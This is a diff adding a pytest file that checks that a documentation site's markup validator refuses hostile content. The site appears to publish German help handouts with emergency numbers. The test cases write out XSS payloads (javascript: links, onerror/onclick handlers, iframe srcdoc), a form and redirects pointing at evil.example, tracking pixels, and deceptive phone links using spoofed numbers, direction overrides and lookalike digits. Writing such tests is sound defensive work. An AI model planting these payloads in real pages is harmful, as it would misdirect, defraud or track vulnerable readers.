@@ -1,0 +1,82 @@
+"""Hostile or careless content is refused before the build, naming the file and the line (issue: content
+cannot turn the site against its readers)."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from scripts.checks import markup
+from scripts.core.project import Project
+from tests.conftest import ROOT
+
+PROJECT = Project.load(ROOT / "mkdocs.yml")
+MD = markup._markdown(PROJECT)
+HEAD = "---\ntitle: Test\n---\n\n# Test\n\n"  # the bad line is line 7
+
+CASES = [
+    ("javascript link", "[Hilfe](javascript:alert(1))", "`javascript:` links are not allowed"),
+    ("javascript link, entity-encoded", '<a href="jav&#x61;script:alert(1)">Hilfe</a>', "`javascript:` links"),
+    ("javascript link with a tab", '<a href="java\tscript:alert(1)">Hilfe</a>', "`javascript:` links"),
+    ("onerror attribute", '<img src="../assets/favicon.svg" onerror="alert(1)">', "attribute `onerror`"),
+    ("onclick attribute", '<span onclick="alert(1)">Klick</span>', "attribute `onclick`"),
+    ("onclick by attr_list on a heading", "## Titel {: onclick=\"alert(1)\" }", "attribute `onclick`"),
+    ("onclick by attr_list on a link", "[x](hilfe.md){: onclick=\"alert(1)\" }", "attribute `onclick`"),
+    ("svg javascript link", '<svg><a href="javascript:alert(1)"><text>x</text></a></svg>', "<svg>"),
+    ("data: link", '[Formular](data:text/html;base64,PHNjcmlwdD4=)', "`data:` links are not allowed"),
+    ("form to another host", '<form action="https://evil.example/collect"><input name="q"></form>', "<form>"),
+    ("iframe srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"),
+    ("base href", '<base href="https://evil.example/">', "<base>"),
+    ("meta refresh", '<meta http-equiv="refresh" content="0; url=https://evil.example/">', "<meta>"),
+    ("lying tel link", "[110](tel:+4990012345678)", "shows `110` but dials `+4990012345678`"),
+    ("tel link without digits shown", "[Polizei anrufen](tel:+4990012345678)", "but dials"),
+    ("rtl override in a number", "Rufen Sie [\u202e011\u202c](tel:110) an.", "direction control U+202E"),
+    ("isolate around a number", "Telefon \u2066116 016\u2069", "direction control U+2066"),
+    ("zero-width space inside a number", "Telefon 116\u200b016", "invisible U+200B"),
+    ("lookalike digits", "Telefon \U0001d7cf\U0001d7cf\U0001d7ce", "lookalike digit"),
+    ("mixed digit scripts", "Telefon 11\u06f0", "mixes digits"),
+    ("protocol-relative image", '<img src="//evil.example/pixel.gif">', "another server"),
+    ("remote image", "![x](https://evil.example/pixel.gif)", "may not load images from other servers"),
+    ("style attribute", '<span style="position:fixed;top:0">x</span>', "attribute `style`"),
+    ("object tag", '<object data="https://evil.example/x.swf"></object>', "<object>"),
+]
+
+
+@pytest.mark.parametrize("name,line,expected", CASES, ids=[c[0] for c in CASES])
+def test_hostile_content_is_refused_with_file_and_line(tmp_path: Path, name: str, line: str, expected: str):
+    path = tmp_path / "docs" / "de" / "neu.md"
+    problems = list(markup.check_page_markup(path, HEAD + line + "\n", MD))
+    assert problems, f"{name}: not refused"
+    assert any(expected in p.message for p in problems), [str(p) for p in problems]
+    assert all(p.line == 7 for p in problems), [str(p) for p in problems]
+    assert all(p.fix for p in problems)
+
+
+@pytest.mark.parametrize("line", [
+    "Rufen Sie [110](tel:110) an. Hilfetelefon: [116 016](tel:116016).",
+    "[۱۱۶ ۰۱۶](tel:116016) شبانه‌روزی",                    # Persian digits, ZWNJ in a Persian word
+    "[١١٠](tel:110)",                                        # Arabic-Indic digits
+    "[+49 800 1239900](tel:08001239900) und [0800 1239900](tel:+498001239900)",
+    '<bdi dir="ltr">0800 22 55 530</bdi>, <span lang="de" dir="ltr">Frauenhaus</span>, <abbr title="x">GVG</abbr>',
+    "H<sub>2</sub>O, 1<sup>st</sup>, Zeile<br>Zeile",
+    "[Hilfe](hilfe.md), [Seite](https://www.hilfetelefon.de/), <mailto:info@example.org>, [Abschnitt](#oben)",
+    "| Name | Telefon |\n|:-----|-------:|\n| Polizei | [110](tel:110) |",
+    "Heading {: #anker .klasse lang=ar dir=rtl }",
+    "`<script>` in Code ist Text",
+    "<!-- site:help-directory -->",
+])
+def test_what_handouts_need_is_allowed(tmp_path: Path, line: str):
+    path = tmp_path / "docs" / "de" / "ok.md"
+    problems = list(markup.check_page_markup(path, HEAD + line + "\n", MD))
+    assert not problems, [str(p) for p in problems]
+
+
+def test_dialled_numbers():
+    assert markup.dialled("+49 800 1239900") == markup.dialled("0800 1239900") == "08001239900"
+    assert markup.dialled("۱۱۶ ۰۱۶") == "116016"
+    assert markup.dialled("110") != markup.dialled("+4990012345678")
+
+
+def test_real_content_passes():
+    assert list(markup.markup_problems(PROJECT)) == []
